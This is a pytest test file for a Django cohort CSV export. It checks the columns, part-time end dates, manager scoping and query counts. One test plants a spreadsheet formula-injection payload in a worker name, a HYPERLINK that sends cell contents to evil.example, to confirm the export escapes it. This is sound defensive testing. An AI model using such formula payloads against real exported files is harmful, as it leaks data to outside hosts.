"""The cohort CSV export: the cohort page's people and scoping, in a file that is safe to open."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from people.models import Role
from programmes.selectors import enrolment_timeline
from tests.factories import EnrolmentFactory, TeamFactory, UserFactory

pytestmark = pytest.mark.django_db


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_lead_downloads_every_worker_with_the_derived_end_date(client, lead, enrolment):
    enrolment.cohort.name = "ASYE September 2026: North/South"
    enrolment.cohort.save()
    client.force_login(lead)
    response = client.get(reverse("programmes:cohort-export", args=[enrolment.cohort_id]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=")
    assert f"cohort-{enrolment.cohort_id}-asye-september-2026-northsouth-" in disposition
    header, row = _rows(response)
    assert header == [
        "Worker",
        "Email",
        "Team",
        "Programme",
        "Start date",
        "FTE",
        "Expected end date",
        "Status",
        "Supervisor",
        "Assessor",
    ]
    assert row == [
        enrolment.worker.full_name,
        enrolment.worker.email,
        enrolment.worker.team.name,
        "ASYE-CF",
        "2026-09-07",
        "1.00",
        enrolment_timeline(enrolment, on=timezone.localdate()).expected_end_on.isoformat(),
        "Active",
        enrolment.supervisor.full_name,
        enrolment.assessor.full_name,
    ]


def test_a_part_time_worker_ends_later(client, lead):
    enrolment = EnrolmentFactory(fte=Decimal("0.5"))
    client.force_login(lead)
    _header, row = _rows(
        client.get(reverse("programmes:cohort-export", args=[enrolment.cohort_id]))
    )
    full_time_end = enrolment_timeline(EnrolmentFactory(), on=timezone.localdate()).expected_end_on
    assert row[5] == "0.50" and row[6] > full_time_end.isoformat()


def test_a_worker_named_as_a_formula_comes_out_as_text(client, lead, enrolment):
    enrolment.worker.full_name = '=HYPERLINK("https://evil.example/?x="&B2,"Open")'
    enrolment.worker.save()
    enrolment.worker.team.name = "@Team"
    enrolment.worker.team.save()
    client.force_login(lead)
    _header, row = _rows(
        client.get(reverse("programmes:cohort-export", args=[enrolment.cohort_id]))
    )
    assert row[0] == '\'=HYPERLINK("https://evil.example/?x="&B2,"Open")'
    assert row[2] == "'@Team"


def test_a_manager_gets_only_their_own_teams_workers(client, enrolment):
    other_team = EnrolmentFactory(cohort=enrolment.cohort)
    manager = enrolment.worker.team.manager
    client.force_login(manager)
    rows = _rows(client.get(reverse("programmes:cohort-export", args=[enrolment.cohort_id])))
    emails = [row[1] for row in rows[1:]]
    assert emails == [enrolment.worker.email]
    assert other_team.worker.email not in emails


def test_the_cohort_page_links_to_the_export(client, lead, enrolment):
    client.force_login(lead)
    page = client.get(reverse("programmes:cohort-detail", args=[enrolment.cohort_id]))
    assert reverse("programmes:cohort-export", args=[enrolment.cohort_id]) in page.content.decode()


def test_the_export_query_count_is_flat(client, lead, enrolment, django_assert_max_num_queries):
    client.force_login(lead)
    url = reverse("programmes:cohort-export", args=[enrolment.cohort_id])
    team = TeamFactory()
    supervisor = UserFactory(roles=[Role.SUPERVISOR])
    # session, user, roles, cohort, enrolments (joined), programmes, pauses, extensions, and
    # the session's save (savepoint, update, release: SESSION_SAVE_EVERY_REQUEST)
    with django_assert_max_num_queries(11):
        client.get(url)
    EnrolmentFactory.create_batch(
        30, cohort=enrolment.cohort, worker__team=team, supervisor=supervisor
    )
    with django_assert_max_num_queries(11):
        response = client.get(url)
    assert len(_rows(response)) == 32
